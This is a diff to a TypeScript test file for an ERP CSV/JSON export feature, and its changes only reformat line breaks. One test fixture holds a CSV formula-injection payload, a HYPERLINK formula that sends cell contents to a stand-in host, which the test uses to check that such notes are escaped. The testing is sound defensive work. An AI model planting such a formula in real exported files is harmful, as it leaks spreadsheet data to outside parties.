@@ -256,7 +256,10 @@ describe('ERP File › Build File', () => {
 	it('CSV: a note a spreadsheet would run as a formula is written as text (default), or as it is when switched off', async () => {
 		const order = makeOrder(10, { notes: '=HYPERLINK("http://zly.example/?"&A1;"Faktura")' });
 		const text = async (extra: Record<string, unknown>) => {
-			const r = await build({ outputFormat: 'csv', buildEntity: 'order', csvEncoding: 'utf-8', csvDelimiter: ';', ...extra }, [order]);
+			const r = await build(
+				{ outputFormat: 'csv', buildEntity: 'order', csvEncoding: 'utf-8', csvDelimiter: ';', ...extra },
+				[order],
+			);
 			expect(r.error).toBeUndefined();
 			return decodeText(Buffer.from(r.output![0][0].binary!.data.data, 'base64'), 'utf-8').text;
 		};
@@ -281,7 +284,9 @@ describe('ERP File › Build File', () => {
 	});
 
 	it('cleans the File Name like invoice PDF names: characters other than letters, digits, "_", "." and "-" become "_"', async () => {
-		const r = await build({ outputFormat: 'json', buildEntity: 'order', fileName: 'zamówienia 2026:11*?<>|.json' }, [makeOrder(9)]);
+		const r = await build({ outputFormat: 'json', buildEntity: 'order', fileName: 'zamówienia 2026:11*?<>|.json' }, [
+			makeOrder(9),
+		]);
 		expect(r.error).toBeUndefined();
 		expect(r.output![0][0].json.fileName).toBe('zam_wienia_2026_11_.json');
 		expect(r.output![0][0].binary!.data.fileName).toBe('zam_wienia_2026_11_.json');
